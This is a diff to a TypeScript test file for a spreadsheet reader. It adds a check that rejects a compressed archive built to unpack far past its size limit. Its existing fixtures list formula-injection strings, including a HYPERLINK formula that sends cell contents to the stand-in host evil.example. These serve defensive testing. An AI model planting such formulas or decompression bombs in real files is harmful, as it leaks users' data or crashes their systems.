@@ -3,7 +3,7 @@ import JSZip from 'jszip';
 import { describe, expect, it } from 'vitest';
 import { readSheet, SheetError, writeSheet, type SheetFault } from './spreadsheet';
 
-const LIMITS = { maxBytes: 2 * 1024 * 1024, maxRows: 3, columns: 3 };
+const LIMITS = { maxBytes: 2 * 1024 * 1024, maxUnpackedBytes: 20 * 1024 * 1024, maxRows: 3, columns: 3 };
 const MALICIOUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'=already quoted"];
 
 async function workbook(fill: (sheet: ExcelJS.Worksheet) => void): Promise<Buffer> {
@@ -82,6 +82,14 @@ describe('reading', () => {
     const zip = await JSZip.loadAsync(good);
     zip.file('xl/workbook.xml', '<not xml');
     expect(await fault(await zip.generateAsync({ type: 'nodebuffer' }))).toBe('notXlsx');
+  });
+
+  it('refuses a small file that would unpack past the limit, before unpacking it', async () => {
+    const zip = await JSZip.loadAsync(await workbook((sheet) => sheet.addRow(['h'])));
+    zip.file('xl/media/padding.bin', Buffer.alloc(30 * 1024 * 1024));
+    const bomb = await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
+    expect(bomb.length).toBeLessThan(LIMITS.maxBytes);
+    expect(await fault(bomb)).toBe('unpackedTooLarge');
   });
 
   it('refuses an empty sheet, a header alone, too many rows and too many bytes', async () => {
